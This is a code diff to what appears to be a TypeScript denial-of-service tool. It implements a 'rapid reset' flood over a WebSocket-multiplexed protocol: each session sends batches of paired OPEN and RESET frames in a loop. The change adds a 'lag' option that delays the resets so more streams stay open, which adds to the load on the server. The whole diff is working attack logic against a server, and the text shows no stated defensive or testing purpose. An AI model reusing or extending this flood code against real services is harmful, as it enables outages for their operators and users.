@@ -12,8 +12,8 @@ import type { Attack } from './main.ts';
 const pairsPerMessage = 50;
 const target = JSON.stringify({ host: '127.0.0.1', port: 9 });
 
-/** A session that is ended is followed by the next at once. */
-export async function rapidReset(attack: Attack, pairsPerSecond: number): Promise<never> {
+/** `lag`: streams opened before the reset of one. A session that is ended is followed by the next at once. */
+export async function rapidReset(attack: Attack, pairsPerSecond: number, lag = 0): Promise<never> {
   for (;;) {
     const id = randomBytes(8).readBigUInt64BE();
     const socket = new WebSocket(
@@ -37,7 +37,7 @@ export async function rapidReset(attack: Attack, pairsPerSecond: number): Promis
     count(attack, isOpen ? 'links' : 'refused');
     if (isOpen) {
       socket.send(message(id, frame({ type: frameTypes.SYNC })));
-      await flood(attack, socket, id, pairsPerSecond, () => isOver);
+      await flood(attack, socket, id, { pairsPerSecond, lag, isOver: () => isOver });
       count(attack, 'sessions ended');
     }
     socket.terminate();
@@ -49,8 +49,7 @@ async function flood(
   attack: Attack,
   socket: WebSocket,
   id: bigint,
-  pairsPerSecond: number,
-  isOver: () => boolean,
+  { pairsPerSecond, lag, isOver }: { pairsPerSecond: number; lag: number; isOver: () => boolean },
 ): Promise<void> {
   let began = performance.now();
   let sent = 0;
@@ -58,7 +57,9 @@ async function flood(
     const pairs = Array.from({ length: pairsPerMessage }, (_, i) =>
       Buffer.concat([
         frame({ type: frameTypes.OPEN, stream: stream + i, argument: 262_144, payload: target }),
-        frame({ type: frameTypes.RESET, stream: stream + i, argument: wireCodes.ERR_ABORTED }),
+        ...(stream + i > lag
+          ? [frame({ type: frameTypes.RESET, stream: stream + i - lag, argument: wireCodes.ERR_ABORTED })]
+          : []),
       ]),
     );
     socket.send(message(id, ...pairs));
